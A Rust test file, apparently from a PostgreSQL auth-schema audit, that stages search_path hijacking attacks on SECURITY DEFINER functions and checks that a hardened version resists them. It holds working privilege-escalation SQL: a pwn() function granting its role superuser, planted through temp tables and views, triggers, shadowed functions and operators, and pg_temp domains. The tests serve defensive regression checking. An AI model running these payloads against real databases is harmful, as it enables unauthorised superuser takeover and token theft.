//! D10 of the audit: SECURITY DEFINER without a pinned path. The five take-overs and the two
//! half-fixes that do not hold, each as an attack by a role that may do no more than anon, but in a
//! session of its own: with it, an injection in any application function becomes a superuser.

use postgres::{Client, NoTls};

use super::Stack;
use super::clock::mutate;
use super::published::Sql;
use crate::support::{role, unique};

/// A cookie that suits both shapes of the table.
const COOKIE: &str = "5f0c3a52-7d1c-4b8e-9a0f-3c6f1e2d4b5a.AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA";

/// Columns of the published table and of ours.
const COLUMNS: &str = "
    select 1::bigint as id, 'admin@example.org'::text as subject, '{cookie}'::text as token,
           '5f0c3a52-7d1c-4b8e-9a0f-3c6f1e2d4b5a'::uuid as selector, 'service'::text as role,
           sha256('AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA') as verifier_hash,
           null::bytea as previous_hash, null::bytea as salt, now() as created_at, now() as rotated_at,
           now() + interval '1 day' as expires_at, null::timestamptz as revoked_at, null::text as revoked_why";

/// A role with a session, a schema of its own, and `pwn()`, which uses what it gets.
struct Attacker<'a> {
    stack: &'a Stack,
    name: String,
    schema: String,
    client: Client,
}

/// What an attack has got.
#[derive(Debug, PartialEq)]
enum Loot {
    /// Nothing ran as anybody else, and nobody was logged in.
    Nothing,
    /// A token of that subject.
    Token(String),
    /// Code of the attacker ran as somebody else, who is not a superuser.
    Code,
    /// The attacker is a superuser now.
    Superuser,
}

impl Attacker<'_> {
    fn of(stack: &Stack) -> Attacker<'_> {
        let name = role(&stack.db, "login nosuperuser");
        let schema = unique("evil");
        stack.db.sql(&format!(
            "create schema {schema} authorization {name};
             grant usage on schema auth to {name};
             grant execute on function auth.refresh_tokens(), auth.issue_tokens(text, text) to {name}"
        ));
        let mut config = stack.login_config();
        let mut client = config.user(&name).connect(NoTls).unwrap();
        // A sequence does not roll back: what it counted was executed.
        client
            .batch_execute(&format!(
                "create sequence {schema}.ran; grant usage on schema {schema} to public;
                 grant usage on sequence {schema}.ran to public;
                 create function {schema}.pwn(result text default '') returns text language plpgsql as $$
                 begin
                     if current_user <> session_user then
                         perform pg_catalog.nextval('{schema}.ran');
                         execute 'alter role {name} superuser';
                     end if;
                     return result;
                 exception
                     when insufficient_privilege then return result;
                 end $$"
            ))
            .unwrap();
        Attacker { stack, name, schema, client }
    }

    /// Prepares, calls, and looks at what came of it.
    fn attack(mut self, prepare: &str, call: &str) -> Loot {
        let fill = |text: &str| text.replace("{evil}", &self.schema).replace("{cookie}", COOKIE);
        self.client.batch_execute(&fill(&prepare.replace("{columns}", COLUMNS))).unwrap();
        let cookies = format!(r#"{{"refresh_token":"{COOKIE}"}}"#);
        self.client.execute("select set_config('request.cookies', $1, false)", &[&cookies]).unwrap();
        // An error is what the attacked sees; the headers are what the attacker gets.
        let _ = self.client.batch_execute(&format!("begin; {call}"));
        let headers =
            self.client.query_one("select pg_catalog.current_setting('response.headers', true)", &[]);
        let _ = self.client.batch_execute("commit");
        let ran = self.stack.db.ask(&format!("select is_called from {}.ran", self.schema)) == "true";
        let superuser = format!("select rolsuper from pg_roles where rolname = '{}'", self.name);
        if self.stack.db.ask(&superuser) == "true" {
            return Loot::Superuser;
        }
        if ran {
            return Loot::Code;
        }
        let headers = headers.ok().and_then(|row| row.get::<_, Option<String>>(0)).unwrap_or_default();
        match super::Response::answered(
            true,
            String::new(),
            Some(&headers).filter(|h| !h.is_empty()).map(String::as_str),
            None,
        ) {
            response if response.cookie("access_token").is_some_and(|token| !token.is_empty()) => {
                Loot::Token(response.claims().text("sub").to_owned())
            }
            _ => Loot::Nothing,
        }
    }
}

fn loot(sql: Sql, prepare: &str, call: &str) -> Loot {
    Attacker::of(&Stack::of(sql)).attack(prepare, call)
}

const PATH: &str = "set search_path = auth, public;";
const REFRESH: &str = "select auth.refresh_tokens()";
const ISSUE: &str = "select auth.issue_tokens('mallory', 'authenticated')";

#[test]
fn d10_a_temporary_table_does_not_make_anybody_anybody() {
    let attack = &format!("create temp table refresh_token as {{columns}}; {PATH}");
    assert_eq!(loot(Sql::Repaired, attack, REFRESH), Loot::Token("admin@example.org".to_owned()));
    assert_eq!(loot(Sql::Ours, attack, REFRESH), Loot::Nothing);
}

#[test]
fn d10_a_temporary_view_does_not_run_as_the_owner() {
    let attack = &format!(
        "create temp view refresh_token as
            select {{evil}}.pwn(subject) as subject, token, selector, {{evil}}.pwn(role) as role, verifier_hash,
                   previous_hash, salt, created_at, rotated_at, expires_at, revoked_at, revoked_why
              from ({{columns}}) as t; {PATH}"
    );
    assert_eq!(loot(Sql::Repaired, attack, REFRESH), Loot::Superuser);
    assert_eq!(loot(Sql::Ours, attack, REFRESH), Loot::Nothing);
}

#[test]
fn d10_a_trigger_on_a_temporary_table_does_not_run_as_the_owner() {
    let attack = &format!(
        "create temp table refresh_token as {{columns}} limit 0;
         create function {{evil}}.steal() returns trigger language plpgsql as
            'begin perform {{evil}}.pwn(); return new; end';
         create trigger steal before insert on refresh_token for each row execute function {{evil}}.steal(); {PATH}"
    );
    assert_eq!(loot(Sql::Repaired, attack, ISSUE), Loot::Superuser);
    // What came of it is the tokens that this role may ask for.
    assert_eq!(loot(Sql::Ours, attack, ISSUE), Loot::Token("mallory".to_owned()));
}

#[test]
fn d10_functions_of_the_same_name_do_not_run_as_the_owner() {
    let names = [
        "generate_user_jwt(text, text, text default '')",
        "sign_raw(json, text, text default '')",
        "url_encode(bytea)",
        "access_seconds(int)",
        "to_json(text)",
        "current_setting(text)",
        "current_setting(text, boolean)",
        "convert_to(text, name)",
        "encode(bytea, text)",
        "set_config(text, text, boolean)",
        "floor(numeric)",
    ];
    let functions = names.map(|name| {
        format!("create function {{evil}}.{name} returns text language sql as 'select {{evil}}.pwn()';")
    });
    let attack = &format!("{} set search_path = {{evil}}, pg_catalog, auth, public;", functions.concat());
    assert_eq!(loot(Sql::Repaired, attack, ISSUE), Loot::Superuser);
    assert_eq!(loot(Sql::Ours, attack, ISSUE), Loot::Token("mallory".to_owned()));
}

#[test]
fn d10_operators_of_the_same_name_do_not_run_as_the_owner() {
    let operators = [
        ("||", "text", "text"),
        ("||", "text", "bigint"),
        ("||", "bytea", "bytea"),
        ("#", "varbit", "varbit"),
        ("+", "bigint", "integer"),
        ("+", "integer", "integer"),
        ("~", "text", "text"),
        ("<>", "text", "text"),
    ];
    let operators = operators.map(|(name, left, right)| {
        let function = format!("{{evil}}.op_{left}_{right}");
        format!(
            "create or replace function {function}({left}, {right}) returns text language sql as 'select {{evil}}.pwn()';
             create operator {{evil}}.{name} (leftarg = {left}, rightarg = {right}, function = {function});"
        )
    });
    let attack = operators.concat();
    let attack = &format!("{attack} set search_path = {{evil}}, pg_catalog, auth, public;");
    assert_eq!(loot(Sql::Repaired, attack, ISSUE), Loot::Superuser);
    assert_eq!(loot(Sql::Ours, attack, ISSUE), Loot::Token("mallory".to_owned()));
}

#[test]
fn d10_a_path_without_pg_temp_is_half_a_fix() {
    let half_fixed = Stack::of(Sql::Repaired);
    half_fixed.db.sql("alter function auth.refresh_tokens() set search_path = auth, public");
    let attack = "create temp table refresh_token as {columns}";
    assert_eq!(
        Attacker::of(&half_fixed).attack(attack, REFRESH),
        Loot::Token("admin@example.org".to_owned())
    );
    // What pins the path here is on every security definer function, and holds for what it calls; the attacks above are the proof.
    let unpinned = "select count(*) from pg_proc
        where pronamespace::regnamespace::text in ('auth', 'auth_private') and prosecdef
          and 'search_path=pg_catalog, pg_temp' <> all (coalesce(proconfig, '{}'))";
    assert_eq!(Stack::ours().db.ask(unpinned), "0");
}

#[test]
fn d10_an_empty_path_with_qualified_names_is_half_a_fix() {
    let half_fixed = Stack::of(Sql::Repaired);
    let qualify = |function: &str, name: &str| {
        mutate(&half_fixed, function, name, &format!("auth.{name}"));
        half_fixed.db.sql(&format!("alter function {function} set search_path = ''"));
    };
    qualify("auth.sign_raw(json, text, text)", "url_encode(");
    qualify("auth.generate_user_jwt(text, text, text)", "sign_raw(");
    qualify("auth.refresh_tokens()", "generate_user_jwt(");
    mutate(&half_fixed, "auth.refresh_tokens()", "from refresh_token r", "from auth.refresh_token r");
    // The attacker has a session of its own, so that nothing is rolled back.
    half_fixed
        .db
        .sql(&format!("insert into auth.refresh_token (subject, token) values ('mallory', '{COOKIE}')"));
    let domains =
        ["json", "uuid", "text", "bytea", "int4", "int8", "bool", "timestamptz", "varbit", "regrole"].map(
            |name| {
                format!(
                    "create domain pg_temp.{name} as pg_catalog.{name}
                    check (pg_catalog.length({{evil}}.pwn(pg_catalog.concat(value))) is not null);"
                )
            },
        );
    assert_eq!(Attacker::of(&half_fixed).attack(&domains.concat(), REFRESH), Loot::Superuser);
    assert_eq!(loot(Sql::Ours, &domains.concat(), REFRESH), Loot::Nothing);
    assert_eq!(loot(Sql::Ours, &domains.concat(), ISSUE), Loot::Token("mallory".to_owned()));
}

#[test]
fn d10_a_hostile_schema_public_is_not_looked_at() {
    // Stack::ours() has it; with it, the published SQL does not even run.
    let stack = Stack::of(Sql::Repaired);
    stack.db.sql(include_str!("hostile_public.sql"));
    assert_eq!(stack.login("u1", "authenticated").message, "hijacked by schema public");
    let stack = Stack::ours();
    let cookie = stack.login("u1", "authenticated").is(204).refresh_cookie();
    stack.refresh(&cookie).is(204);
    // Nor by the trigger of the settings, which sees the secret, whatever path its caller has.
    stack.db.sql(
        "create function public.octet_length(bytea) returns int language sql as 'select public.hijacked()::int';
         set search_path = public, pg_catalog;
         update auth_private.config set jwt_secret = jwt_secret",
    );
}
